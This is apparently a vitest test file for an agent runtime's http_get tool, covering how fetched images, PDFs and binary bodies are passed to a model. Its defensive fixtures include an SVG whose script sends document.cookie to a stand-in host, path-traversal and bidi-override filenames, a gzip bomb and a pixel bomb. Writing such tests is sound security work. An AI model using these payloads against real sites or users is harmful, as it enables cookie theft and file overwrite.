import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { gzipSync, inflateSync } from 'node:zlib';
import { AgentrtError, createRuntime, TEXT_ONLY, type ContentPart, type Tool, type ToolContext, type ToolMessage } from '@agentrt/core';
import { AnthropicModel } from '@agentrt/model-anthropic';
import { OpenAIModel } from '@agentrt/model-openai';
import { buildPdf, buildPng, crc32, ScriptedModel, startAnthropicServer, startOpenAIServer, type LoopbackServer } from '@agentrt/testing';
import { createHttpTools, fileNameOf, type HttpToolOptions } from '@agentrt/tools-http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';

// media15f: images and PDFs fetched by http_get reach the model as content parts (decided by the
// bytes, not the Content-Type), other binary bodies as a short note, never as U+FFFD text.

const PNG = buildPng({ width: 40, height: 20 });
const PDF = buildPdf('Quarterly revenue: 42 million');
const ZIP = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 7)]);
const SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("https://evil.test/?"+document.cookie)</script><rect width="10" height="10"/></svg>';
const MEDIA_CAP = 64 * 1024;
// Built once, before any memory is measured: 64 MiB of zeros behind a PNG header, gzipped (~64 KiB on the wire).
const BOMB = gzipSync(Buffer.concat([PNG.subarray(0, 33), Buffer.alloc(64 * 2 ** 20)]));

/** What the server wrote per path (to prove an over-large body was not read to its end). */
const written = new Map<string, number>();
const closed = new Set<string>();

function endless(res: ServerResponse, path: string, head: Buffer): void {
  let sent = 0;
  const chunk = Buffer.alloc(16 * 1024, 0xab);
  const pump = () => {
    while (!res.destroyed) {
      const piece = sent === 0 ? Buffer.concat([head, chunk]) : chunk;
      sent += piece.length;
      written.set(path, sent);
      if (sent > 64 * 2 ** 20) return res.end(); // a safety stop far past every cap: the test fails on the written count
      if (!res.write(piece)) return res.once('drain', pump);
    }
  };
  pump();
}

const routes: Record<string, (res: ServerResponse, req: IncomingMessage) => void> = {
  '/cat.png': (res) => res.writeHead(200, { 'content-type': 'image/png' }).end(PNG),
  '/lying.jpg': (res) => res.writeHead(200, { 'content-type': 'image/jpeg' }).end(PNG),
  '/page.html': (res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(PNG),
  '/gzip.png': (res) => res.writeHead(200, { 'content-type': 'image/png', 'content-encoding': 'gzip' }).end(gzipSync(PNG)),
  '/reports/Q3%20report.pdf': (res) => res.writeHead(200, { 'content-type': 'application/pdf' }).end(PDF),
  '/download': (res) => res.writeHead(200, { 'content-type': 'application/pdf', 'content-disposition': 'attachment; filename="fallback.pdf"; filename*=UTF-8\'\'..%2F..%2Fetc%2Fpass%0Awd%E2%80%AE.pdf' }).end(PDF),
  '/proto': (res) => res.writeHead(200, { 'content-type': 'application/pdf', 'content-disposition': 'attachment; __proto__="x"; filename="__proto__"' }).end(PDF),
  '/dots': (res) => res.writeHead(200, { 'content-type': 'application/pdf', 'content-disposition': 'attachment; filename="..\\\\..\\\\boot.ini"' }).end(PDF),
  '/archive.zip': (res) => res.writeHead(200, { 'content-type': 'application/zip' }).end(ZIP),
  '/blob': (res) => res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(Buffer.from([0x00, 0x01, 0x02, 0xff, 0xfe, 0x10, 0x00, 0x80])),
  '/readme': (res) => res.writeHead(200, { 'content-type': 'application/octet-stream' }).end('# plain text served as octet-stream\n'),
  '/song.mp3': (res) => res.writeHead(200, { 'content-type': 'audio/mpeg' }).end(Buffer.concat([Buffer.from('ID3\x04\x00\x00', 'latin1'), Buffer.alloc(300, 0x55)])),
  '/binary.html': (res) => res.writeHead(200, { 'content-type': 'text/html' }).end(Buffer.concat([Buffer.from('<html>'), Buffer.alloc(50, 0), Buffer.from([1, 2, 3])])),
  '/utf16.txt': (res) => res.writeHead(200, { 'content-type': 'text/plain; charset=utf-16le' }).end(Buffer.from('héllo', 'utf16le')),
  '/hello.html': (res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end('<p>Grüße</p>'),
  '/logo.svg': (res) => res.writeHead(200, { 'content-type': 'image/svg+xml' }).end(SVG),
  '/svg-as.png': (res) => res.writeHead(200, { 'content-type': 'image/png' }).end(SVG),
  '/pixel-bomb.png': (res) => res.writeHead(200, { 'content-type': 'image/png' }).end(buildPng({ width: 4, height: 4, claimedWidth: 100_000, claimedHeight: 100_000 })),
  '/huge.png': (res, req) => {
    // Claims 1 GB: refused from the headers, before the body is read.
    req.socket.on('close', () => closed.add('/huge.png'));
    res.writeHead(200, { 'content-type': 'image/png', 'content-length': String(2 ** 30) });
    endless(res, '/huge.png', PNG.subarray(0, 33));
  },
  '/endless.png': (res, req) => {
    // No Content-Length (chunked): read up to the cap, then the connection is destroyed.
    req.socket.on('close', () => closed.add('/endless.png'));
    res.writeHead(200, { 'content-type': 'image/png' });
    endless(res, '/endless.png', PNG.subarray(0, 33));
  },
  '/bomb.png': (res) => res.writeHead(200, { 'content-type': 'image/png', 'content-encoding': 'gzip' }).end(BOMB),
  '/big.pdf': (res) => res.writeHead(200, { 'content-type': 'application/pdf', 'content-length': PDF.length + MEDIA_CAP }).end(Buffer.concat([PDF, Buffer.alloc(MEDIA_CAP, 0x20)])),
  '/big-chunked.pdf': (res) => res.writeHead(200, { 'content-type': 'application/pdf' }).end(Buffer.concat([PDF, Buffer.alloc(MEDIA_CAP, 0x20)])),
};

const server = createServer((req, res) => (routes[req.url ?? ''] ?? ((r: ServerResponse) => r.writeHead(404).end()))(res, req));
let port = 0;
beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as { port: number }).port;
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

const base = (): HttpToolOptions => ({
  allowHosts: ['files.example.test'], allowHttp: true, allowPorts: [port], allowPrivateAddresses: ['127.0.0.1'],
  resolver: async () => [{ address: '127.0.0.1' }], timeoutMs: 10_000, maxMediaBytes: MEDIA_CAP,
});
const getTool = (options: Partial<HttpToolOptions> = {}): Tool => createHttpTools({ ...base(), ...options }).find((tool) => tool.name === 'http_get')!;
const ctx = (): ToolContext => ({ runId: 'r', stepIndex: 0, toolCallId: 'c', idempotencyKey: 'r:c', signal: new AbortController().signal });
const url = (path: string) => `http://files.example.test:${port}${path}`;
const get = async (path: string, options: Partial<HttpToolOptions> = {}) => getTool(options).execute({ url: url(path) }, ctx()) as Promise<unknown>;
const parts = (value: unknown) => {
  expect(Array.isArray(value), JSON.stringify(value).slice(0, 300)).toBe(true);
  return value as ContentPart[];
};
const facts = (value: unknown) => JSON.parse((parts(value)[0] as { text: string }).text) as Record<string, unknown>;

/** Checks a PNG the way a decoder would: signature, every chunk's CRC, IHDR, and IDAT inflating to exactly the rows. */
function decodePng(bytes: Buffer): { width: number; height: number } {
  expect(bytes.subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
  let at = 8;
  let width = 0;
  let height = 0;
  const idat: Buffer[] = [];
  for (;;) {
    const length = bytes.readUInt32BE(at);
    const type = bytes.toString('latin1', at + 4, at + 8);
    const data = bytes.subarray(at + 8, at + 8 + length);
    expect(bytes.readUInt32BE(at + 8 + length), `${type} CRC`).toBe(crc32(bytes.subarray(at + 4, at + 8 + length)));
    if (type === 'IHDR') [width, height] = [data.readUInt32BE(0), data.readUInt32BE(4)];
    if (type === 'IDAT') idat.push(data);
    at += 12 + length;
    if (type === 'IEND') break;
  }
  expect(inflateSync(Buffer.concat(idat)).length).toBe(height * (1 + width * 3));
  return { width, height };
}

describe('http_get: images and PDFs as content parts', () => {
  it('the test PNG and PDF are real: chunk CRCs, inflatable pixel data, a PDF with a valid xref', () => {
    expect(decodePng(PNG)).toEqual({ width: 40, height: 20 });
    const pdf = PDF.toString('latin1');
    const xref = Number(/startxref\n(\d+)/.exec(pdf)![1]);
    expect(pdf.slice(xref, xref + 4)).toBe('xref');
    for (const [index, offset] of [...pdf.matchAll(/(\d{10}) 00000 n /g)].entries()) expect(pdf.slice(Number(offset[1])).startsWith(`${index + 1} 0 obj\n`)).toBe(true);
  });

  it('returns a PNG as an image part with its exact bytes and the response facts as text', async () => {
    const result = parts(await get('/cat.png'));
    expect(facts(result)).toMatchObject({ url: url('/cat.png'), status: 200, contentType: 'image/png', mediaType: 'image/png', bytes: PNG.length, width: 40, height: 20 });
    expect(result[1]).toEqual({ type: 'image', mediaType: 'image/png', data: PNG.toString('base64') });
    expect(decodePng(Buffer.from((result[1] as { data: string }).data, 'base64'))).toEqual({ width: 40, height: 20 });
  });

  it('labels an image by its bytes: a PNG served as image/jpeg or as text/html is an image/png part; gzip is decoded first', async () => {
    for (const path of ['/lying.jpg', '/page.html', '/gzip.png']) {
      const result = parts(await get(path));
      expect(result[1], path).toEqual({ type: 'image', mediaType: 'image/png', data: PNG.toString('base64') });
    }
  });

  it('returns a PDF as a file part named from the URL path (percent-decoded)', async () => {
    const result = parts(await get('/reports/Q3%20report.pdf'));
    expect(result[1]).toEqual({ type: 'file', mediaType: 'application/pdf', data: PDF.toString('base64'), filename: 'Q3 report.pdf' });
    expect(facts(result)).toMatchObject({ mediaType: 'application/pdf', bytes: PDF.length, filename: 'Q3 report.pdf' });
  });

  it('a hostile Content-Disposition name is made plain: no separators, newlines, bidi overrides or dot-dot; __proto__ is just a name', async () => {
    const hostile = parts(await get('/download'))[1] as { filename: string };
    expect(hostile.filename).toBe('_.._etc_pass_wd_.pdf');
    expect((parts(await get('/proto'))[1] as { filename: string }).filename).toBe('__proto__');
    expect((parts(await get('/dots'))[1] as { filename: string }).filename).toBe('_.._boot.ini');
    expect(fileNameOf('attachment; filename="..."', 'https://x.test/')).toBeUndefined();
    expect(fileNameOf('attachment; filename="a\\"b.pdf"', 'https://x.test/')).toBe('a"b.pdf');
    expect(fileNameOf(`inline; filename="${'n'.repeat(400)}.pdf"`, 'https://x.test/')).toMatch(/^n{251}\.pdf$/);
  });
});

describe('http_get: other binary bodies are described, never decoded to junk text', () => {
  it('zip, octet-stream bytes and audio become a note with media type, size and binary: true', async () => {
    expect(await get('/archive.zip')).toEqual({ url: url('/archive.zip'), status: 200, contentType: 'application/zip', redirects: 0, binary: true, mediaType: 'application/zip', bytes: ZIP.length, truncated: false, note: `application/zip, ${ZIP.length} bytes: binary content, not shown` });
    expect(await get('/blob')).toMatchObject({ binary: true, mediaType: 'application/octet-stream', bytes: 8 });
    expect(await get('/song.mp3')).toMatchObject({ binary: true, mediaType: 'audio/mpeg', bytes: 306 });
    for (const path of ['/archive.zip', '/blob', '/song.mp3']) expect(JSON.stringify(await get(path))).not.toContain('\uFFFD');
  });

  it('a body labelled text/html that holds binary bytes is binary; real text is unchanged, also text served as octet-stream and UTF-16', async () => {
    expect(await get('/binary.html')).toMatchObject({ binary: true, mediaType: 'text/html', bytes: 59 });
    expect(await get('/hello.html')).toEqual({ url: url('/hello.html'), status: 200, contentType: 'text/html; charset=utf-8', charset: 'utf-8', body: '<p>Grüße</p>', truncated: false, redirects: 0 });
    expect(await get('/readme')).toMatchObject({ body: '# plain text served as octet-stream\n', charset: 'utf-8' });
    expect(await get('/utf16.txt')).toMatchObject({ body: 'héllo', charset: 'utf-16le' });
  });

  it('SVG is never an image part: its markup (script and all) comes back as text, also when it is labelled image/png', async () => {
    expect(await get('/logo.svg')).toMatchObject({ contentType: 'image/svg+xml', body: SVG, truncated: false });
    expect(await get('/svg-as.png')).toMatchObject({ contentType: 'image/png', body: SVG });
  });

  it('media: "text" describes images and PDFs instead of returning parts', async () => {
    expect(await get('/cat.png', { media: 'text' })).toMatchObject({ binary: true, mediaType: 'image/png', bytes: PNG.length, note: expect.stringContaining("media: 'text'") });
    expect(await get('/reports/Q3%20report.pdf', { media: 'text' })).toMatchObject({ binary: true, mediaType: 'application/pdf' });
  });
});

describe('http_get: hostile media', () => {
  afterEach(() => {
    written.clear();
    closed.clear();
  });

  it('a 1 GB image is refused from its Content-Length: the body is not read and the connection is closed', async () => {
    const started = Date.now();
    expect(await get('/huge.png')).toMatchObject({ binary: true, tooLarge: true, mediaType: 'image/png', bytes: 2 ** 30, truncated: true, note: expect.stringContaining('maxMediaBytes') });
    expect(Date.now() - started).toBeLessThan(5_000);
    const deadline = Date.now() + 5_000;
    while (!closed.has('/huge.png') && Date.now() < deadline) await new Promise((resolve) => setImmediate(resolve));
    expect(closed.has('/huge.png')).toBe(true);
    expect(written.get('/huge.png') ?? 0).toBeLessThan(16 * 2 ** 20); // the server stopped at socket buffers, not 1 GB
  });

  it('an endless image without Content-Length stops at maxMediaBytes and says too large', async () => {
    expect(await get('/endless.png')).toMatchObject({ binary: true, tooLarge: true, mediaType: 'image/png', bytes: MEDIA_CAP, truncated: true, note: expect.stringContaining('more than') });
    const deadline = Date.now() + 5_000;
    while (!closed.has('/endless.png') && Date.now() < deadline) await new Promise((resolve) => setImmediate(resolve));
    expect(closed.has('/endless.png')).toBe(true);
  });

  it('a gzip bomb served as an image stops at the cap after decompression (memory bounded)', async () => {
    const before = process.memoryUsage().rss;
    expect(await get('/bomb.png')).toMatchObject({ binary: true, tooLarge: true, mediaType: 'image/png', truncated: true, bytes: MEDIA_CAP });
    expect(process.memoryUsage().rss - before).toBeLessThan(128 * 2 ** 20);
  });

  it('a pixel bomb (a tiny PNG whose header claims 100 000 × 100 000) is described, not sent to a model', async () => {
    expect(await get('/pixel-bomb.png')).toMatchObject({ binary: true, mediaType: 'image/png', width: 100_000, height: 100_000, note: expect.stringContaining('8000 px') });
  });

  it('a PDF over maxMediaBytes is described as too large; maxMediaBytes is validated', async () => {
    expect(await get('/big.pdf')).toMatchObject({ binary: true, tooLarge: true, mediaType: 'application/pdf', bytes: PDF.length + MEDIA_CAP, note: expect.stringContaining(`${PDF.length + MEDIA_CAP} bytes: not fetched`) });
    expect(await get('/big-chunked.pdf')).toMatchObject({ binary: true, tooLarge: true, mediaType: 'application/pdf', bytes: MEDIA_CAP, note: expect.stringContaining(`more than ${MEDIA_CAP} bytes`) });
    for (const bad of [0, -1, 1.5, 2 ** 40, '5mb']) {
      let code = 'none';
      try {
        createHttpTools({ ...base(), maxMediaBytes: bad as number });
      } catch (error) {
        code = AgentrtError.isInstance(error) ? `${error.code}:${(error as { field?: string }).field}` : String(error);
      }
      expect(code, String(bad)).toBe('config_invalid:maxMediaBytes');
    }
    expect(() => createHttpTools({ ...base(), media: 'none' as 'text' })).toThrow(/media/);
  });
});

describe('http_get media in runs', () => {
  let loopback: LoopbackServer | undefined;
  afterEach(async () => {
    await loopback?.close();
    loopback = undefined;
  });

  it('a scripted model receives the image and file parts in the tool messages; the run completes', async () => {
    const model = new ScriptedModel([
      ScriptedModel.parallel([{ name: 'http_get', args: { url: url('/cat.png') } }, { name: 'http_get', args: { url: url('/reports/Q3%20report.pdf') } }]),
      ScriptedModel.answer('a gradient and a revenue report'),
    ]);
    const result = await createRuntime({ model, tools: createHttpTools(base()) }).run('look at these');
    expect(result).toMatchObject({ status: 'completed', stopReason: 'final_answer' });
    const tools = model.requests[1]!.messages.filter((message): message is ToolMessage => message.role === 'tool');
    expect((tools[0]!.content as ContentPart[])[1]).toEqual({ type: 'image', mediaType: 'image/png', data: PNG.toString('base64') });
    expect((tools[1]!.content as ContentPart[])[1]).toMatchObject({ type: 'file', mediaType: 'application/pdf', filename: 'Q3 report.pdf' });
  });

  it('a text-only model: the run stops with unsupported_content naming the tool and the media: "text" fix, before any request carries the image', async () => {
    const model = new ScriptedModel([ScriptedModel.call('http_get', { url: url('/cat.png') }), ScriptedModel.answer('never')], { capabilities: TEXT_ONLY });
    const result = await createRuntime({ model, tools: createHttpTools(base()) }).run('look');
    expect(result).toMatchObject({ status: 'failed', stopReason: 'error', error: { code: 'unsupported_content' } });
    expect(result.error!.message).toContain('tool result of "http_get"');
    expect(result.error!.message).toContain('media: "text"');
    expect(model.requests).toHaveLength(1);
    // With media: 'text' the same model gets a note and the run completes.
    const textModel = new ScriptedModel([ScriptedModel.call('http_get', { url: url('/cat.png') }), ScriptedModel.answer('a png of 40x20')], { capabilities: TEXT_ONLY });
    expect(await createRuntime({ model: textModel, tools: createHttpTools({ ...base(), media: 'text' }) }).run('look')).toMatchObject({ stopReason: 'final_answer' });
    expect(JSON.parse(textModel.requests[1]!.messages.at(-1)!.content as string)).toMatchObject({ binary: true, mediaType: 'image/png', width: 40, height: 20 } as never);
  });

  it('Anthropic (strict loopback): the image and the PDF travel inside tool_result blocks and are accepted', async () => {
    loopback = await startAnthropicServer([
      { reply: { toolCalls: [{ id: 'toolu_img', name: 'http_get', args: { url: url('/lying.jpg') } }, { id: 'toolu_pdf', name: 'http_get', args: { url: url('/download') } }] } },
      { reply: { text: 'seen both' } },
    ]);
    const model = new AnthropicModel({ model: 'claude-sonnet-4-6', apiKey: 'sk-ant-test', baseURL: loopback.url, retry: { maxAttempts: 1 } });
    const result = await createRuntime({ model, tools: createHttpTools(base()) }).run('fetch both');
    expect(result, JSON.stringify(loopback.requests.map((request) => request.rejected))).toMatchObject({ stopReason: 'final_answer', output: 'seen both' });
    expect(loopback.requests.map((request) => request.rejected)).toEqual([undefined, undefined]);
    const turn = (loopback.requests[1]!.body as { messages: { content: unknown }[] }).messages.at(-1)!.content as { type: string; content: { type: string; source?: { media_type: string; data: string }; title?: string }[] }[];
    expect(turn.map((block) => block.type)).toEqual(['tool_result', 'tool_result']);
    expect(turn[0]!.content[1]).toMatchObject({ type: 'image', source: { type: 'base64', media_type: 'image/png', data: PNG.toString('base64') } });
    expect(turn[1]!.content[1]).toMatchObject({ type: 'document', source: { type: 'base64', media_type: 'application/pdf', data: PDF.toString('base64') }, title: '_.._etc_pass_wd_.pdf' });
  });

  it('Anthropic, declared text-only: unsupported_content before the second request, no provider 400', async () => {
    loopback = await startAnthropicServer([
      { reply: { toolCalls: [{ id: 'toolu_img', name: 'http_get', args: { url: url('/cat.png') } }] } },
      { reply: { text: 'unreached' } },
    ]);
    const model = new AnthropicModel({ model: 'claude-sonnet-4-6', apiKey: 'sk-ant-test', baseURL: loopback.url, retry: { maxAttempts: 1 }, capabilities: { imageTypes: [], fileTypes: [] } });
    const result = await createRuntime({ model, tools: createHttpTools(base()) }).run('fetch');
    expect(result).toMatchObject({ stopReason: 'error', error: { code: 'unsupported_content' } });
    expect(loopback.requests).toHaveLength(1);
  });

  it('OpenAI (strict loopback): a tool message takes no image, so the adapter moves it to a user message after the tool turn; accepted', async () => {
    loopback = await startOpenAIServer([
      { reply: { toolCalls: [{ id: 'call_img', name: 'http_get', args: { url: url('/cat.png') } }] } },
      { reply: { text: 'a gradient' } },
    ]);
    const model = new OpenAIModel({ model: 'gpt-4o', apiKey: 'sk-test', baseURL: `${loopback.url}/v1`, retry: { maxAttempts: 1 } });
    const result = await createRuntime({ model, tools: createHttpTools(base()) }).run('fetch');
    expect(result, JSON.stringify([result.error, loopback.requests.map((request) => request.rejected)])).toMatchObject({ stopReason: 'final_answer', output: 'a gradient' });
    expect(loopback.requests.map((request) => request.rejected)).toEqual([undefined, undefined]);
    const messages = (loopback.requests[1]!.body as { messages: { role: string; content: unknown }[] }).messages;
    const tool = messages.findIndex((message) => message.role === 'tool');
    expect(typeof messages[tool]!.content).toBe('string');
    expect(messages[tool + 1]!.role).toBe('user');
    expect(JSON.stringify(messages[tool + 1]!.content)).toContain(`data:image/png;base64,${PNG.toString('base64')}`);
  });
});
